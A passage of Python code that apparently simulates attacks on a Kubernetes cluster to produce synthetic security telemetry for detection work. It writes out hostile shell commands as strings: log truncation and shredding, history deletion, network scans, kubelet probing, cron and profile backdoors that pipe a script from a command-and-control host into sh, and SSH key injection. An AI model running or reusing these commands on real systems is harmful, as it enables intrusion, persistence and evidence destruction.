    a.beacon(target, rng.randint(3, 10))


def log_clearing(a: Attack) -> None:
    rng, act = a.rng, a.act
    shell = a.shell()
    steps = rng.sample(["truncate", "history", "shred", "find", "redirect"], rng.randint(2, 4))
    for step in steps:
        a.step("defense_evasion", "T1070.002")
        if step == "truncate":
            for log in rng.sample(
                [
                    "/var/log/nginx/access.log",
                    "/var/log/nginx/error.log",
                    "/var/log/auth.log",
                    "/var/log/syslog",
                ],
                2,
            ):
                proc = a.run(shell, f"truncate -s 0 {log}")
                act.open_write(a.t + ms(rng, 0.2, 1), proc, log, "O_TRUNC|O_CREAT|O_WRONLY|O_NONBLOCK")
        elif step == "history":
            a.step("defense_evasion", "T1070.003")
            home = "/root" if shell.uid == 0 else "/tmp"
            proc = a.run(shell, f"rm -f {home}/.bash_history", exepath="/bin/rm")
            act.unlink(a.t + ms(rng, 0.2, 1), proc, f"{home}/.bash_history")
            a.run(shell, f"ln -sf /dev/null {home}/.bash_history", exepath="/bin/ln")
            if a.webshell:
                # Builtins only raise events when a shell is started to run them.
                a.run(shell, "sh -c history -c; unset HISTFILE")
        elif step == "shred":
            a.step("defense_evasion", "T1070.004")
            files = [f"/tmp/.{hex_id(rng, 4)}", f"/tmp/.{hex_id(rng, 4)}.sh"]
            proc = a.run(shell, f"shred -u -z -n 3 {' '.join(files)}")
            for f in files:
                act.unlink(a.t + ms(rng, 5, 50), proc, f)
        elif step == "find":
            find = a.run(shell, "find /var/log -type f -name *.log -exec truncate -s 0 {} +")
            trunc = act.spawn(
                a.t + ms(rng, 2, 10),
                find,
                "truncate -s 0 /var/log/dpkg.log /var/log/alternatives.log /var/log/apt/history.log",
            )
            for log in ("/var/log/dpkg.log", "/var/log/alternatives.log", "/var/log/apt/history.log"):
                act.open_write(a.t + ms(rng, 10, 30), trunc, log, "O_TRUNC|O_CREAT|O_WRONLY|O_NONBLOCK")
        else:
            sh = a.run(shell, "sh -c cat /dev/null > /var/log/wtmp; cat /dev/null > /var/log/lastlog")
            for log in ("/var/log/wtmp", "/var/log/lastlog"):
                act.open_write(a.t + ms(rng, 0.5, 3), sh, log)


def lateral_movement(a: Attack) -> None:
    rng, act = a.rng, a.act
    w = a.ctx.world
    shell = a.shell()
    a.step("discovery", "T1046")
    others = [
        p
        for wl in w.workloads.values()
        for p in wl.pods_at(a.t)
        if p is not a.pod and p.workload.kind != "DaemonSet"
    ]
    targets = rng.sample(others, min(len(others), rng.randint(8, 30)))
    ports = rng.sample([22, 80, 443, 2379, 3306, 5432, 6379, 8080, 9090, 10250], rng.randint(2, 4))
    variant = rng.choice(("bash", "nc", "nmap"))
    if variant == "bash":
        scanner = a.run(
            shell,
            f"bash -c for ip in $(seq 1 254); do for p in {' '.join(map(str, ports))}; do "
            "(echo > /dev/tcp/10.244.$n.$ip/$p) "
            "2>/dev/null && echo $ip:$p open; done; done",
            exepath="/bin/bash",
        )
    elif variant == "nc":
        scanner = a.run(
            shell, f"nc -zv -w 1 10.244.{rng.randint(0, 5)}.0/24 {'-'.join(map(str, sorted(ports)[:2]))}"
        )
    else:
        nmap = "/tmp/nmap"
        written = a.download(shell, nmap)
        a.chmod_x(shell, nmap)
        a.step("discovery", "T1046")
        a.wait()
        scanner = a.run(
            shell,
            wait=False,
            command=f"{nmap} -sT -Pn -T4 --open -p {','.join(map(str, ports))} 10.244.0.0/16",
            exepath=nmap,
            dropped_at=written,
            name="nmap",
        )
    t = a.t
    for pod in targets:
        for port in ports:
            if rng.random() < 0.5:
                continue
            t += ms(rng, 0.5, 40)
            act.connect(t, scanner, pod.ip, port)
    a.t = t + seconds(rng, 1, 20)
    a.step("lateral_movement", "T1021.004")
    victims = [
        p for p in targets if p.workload.app in ("redis", "postgres", "mysql", "api", "orders")
    ] or targets
    for move in rng.sample(["redis", "ssh", "scp", "kubelet", "http"], rng.randint(2, 3)):
        if move == "redis" and w["redis"].pods_at(a.t):
            redis = w["redis"].pods_at(a.t)[0]
            a.step("lateral_movement", "T1210")
            cli = a.run(
                shell, f"redis-cli -h {redis.ip} -p 6379 CONFIG GET dir", exepath="/usr/local/bin/redis-cli"
            )
            act.connect(a.t + ms(rng, 1, 5), cli, redis.ip, 6379)
            act.accept(a.t + ms(rng, 5, 8), redis.main(), a.pod.ip, 6379)
        elif move in ("ssh", "scp") and victims:
            dst = rng.choice(victims)
            a.step("lateral_movement", "T1021.004")
            command = (
                f"ssh -o StrictHostKeyChecking=no -o ConnectTimeout=3 root@{dst.ip}"
                if move == "ssh"
                else f"scp -o StrictHostKeyChecking=no /tmp/.{hex_id(rng, 4)} root@{dst.ip}:/tmp/"
            )
            proc = a.run(shell, command)
            act.connect(a.t + ms(rng, 2, 10), proc, dst.ip, 22)
        elif move == "kubelet":
            node = rng.choice(w.nodes)
            a.step("lateral_movement", "T1210")
            proc = a.run(shell, f"curl -sk https://{node.ip}:10250/pods")
            act.connect(a.t + ms(rng, 2, 10), proc, node.ip, 10250)
            act.accept(a.t + ms(rng, 10, 15), w.host[node.hostname]["kubelet"], a.pod.ip, 10250)
        elif victims:
            dst = rng.choice(victims)
            port = dst.workload.spec.port or 80
            proc = a.run(shell, f"curl -s -m 3 http://{dst.ip}:{port}/")
            act.connect(a.t + ms(rng, 2, 10), proc, dst.ip, port)
            act.accept(a.t + ms(rng, 10, 15), dst.serving(rng), a.pod.ip, port)


def persistence(a: Attack) -> None:
    rng, act = a.rng, a.act
    shell = a.shell()
    root = shell.uid == 0
    choices = ["cron"] + (["ssh_key", "profile", "binary"] if root else [])
    for kind in rng.sample(choices, min(len(choices), rng.randint(1, 3))):
        if kind == "cron":
            a.step("persistence", "T1053.003")
            a.run(shell, "crontab -l")
            sh = a.run(
                shell,
                "sh -c (crontab -l 2>/dev/null; "
                f'echo "*/10 * * * * curl -fsSL http://{a.c2_name}/s.sh | sh") '
                "| crontab -",
            )
            tab = act.spawn(a.t + ms(rng, 2, 8), sh, "crontab -")
            tmp = f"/var/spool/cron/crontabs/tmp.{rng.randint(1000, 99999)}"
            act.open_write(a.t + ms(rng, 8, 15), tab, tmp, "O_EXCL|O_CREAT|O_RDWR")
            act.rename(a.t + ms(rng, 15, 25), tab, tmp, f"/var/spool/cron/crontabs/{shell.user}")
        elif kind == "ssh_key":
            a.step("persistence", "T1098.004")
            a.run(shell, "mkdir -p /root/.ssh", exepath="/bin/mkdir")
            sh = a.run(
                shell,
                "sh -c echo ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI"
                + hex_id(rng, 40)
                + " >> /root/.ssh/authorized_keys",
            )
            act.append(a.t + ms(rng, 0.5, 2), sh, "/root/.ssh/authorized_keys")
        elif kind == "profile":
            a.step("persistence", "T1546.004")
            target = rng.choice(("/etc/profile.d/sysinit.sh", "/etc/bash.bashrc", "/etc/rc.local"))
            sh = a.run(
                shell, f"sh -c echo 'curl -fsSL http://{a.c2_name}/s.sh|sh >/dev/null 2>&1 &' >> {target}"
            )
            act.append(a.t + ms(rng, 0.5, 2), sh, target)
        else:
            a.step("persistence", "T1543")
            name = rng.choice(("kube-agent", "node-helper", ".sysd", "containerd-shim-v3"))
            cp = a.run(shell, f"cp /tmp/.{hex_id(rng, 4)} /usr/local/bin/{name}", exepath="/bin/cp")
            act.open_write(a.t + ms(rng, 1, 5), cp, f"/usr/local/bin/{name}")


SCENARIOS: Final = (
    Scenario(
        "reverse_shell",
        "execution",
        "T1059.004",
        ("api", "orders", "storefront", "postgres", "orders-worker", "mysql"),
        reverse_shell,
    ),
    Scenario("credential_access", "credential_access", "T1552.001", (*_WEB, "ci"), credential_access),
    Scenario("crypto_miner", "impact", "T1496", (*_WEB, "ci", "ci"), crypto_miner),
    Scenario(
        "container_escape",
        "privilege_escalation",
        "T1611",
        ("ci", "ci", "api", "orders", "storefront"),
        container_escape,
    ),
    Scenario("api_server_access", "discovery", "T1613", (*_WEB, "mysql"), api_server_access),
    Scenario("drop_and_execute", "execution", "T1204.002", (*_WEB, "mysql", "postgres"), drop_and_execute),
    Scenario("staged_payload", "execution", "T1059.004", ("api", "orders", "orders-worker"), staged_payload),
    Scenario(
        "fileless_memfd", "defense_evasion", "T1620", ("orders", "orders-worker", "api"), fileless_memfd
    ),
    Scenario(
        "ptrace_injection",
        "defense_evasion",
        "T1055.008",
        ("orders", "orders-worker", "api", "ci"),
        ptrace_injection,
    ),
    Scenario(
        "log_clearing",
        "defense_evasion",
        "T1070",
        ("storefront", "ci", "postgres", "mysql", "api"),
        log_clearing,
    ),
    Scenario("lateral_movement", "lateral_movement", "T1021", _WEB, lateral_movement),
    Scenario("persistence", "persistence", "T1053.003", ("storefront", "ci", "api", "orders"), persistence),
)


def run_scenario(ctx: Ctx, scenario: Scenario, index: int, t: int) -> Attack:
    """Run one instance of ``scenario`` starting near ``t``; returns it (victim, counts, time)."""
    rng = ctx.rng(f"attack/{scenario.name}/{index}")
    victim = rng.choice(scenario.victims)
    attack = Attack(ctx, scenario, rng, t=t, victim=victim, instance=index)
    scenario.run(attack)
    if attack.ci is not None:
        # The job hangs while the attacker works; the pod lives until then.
        attack.pod.end_ns = max(attack.pod.end_ns, attack.t + seconds(rng, 2, 30))
    return attack
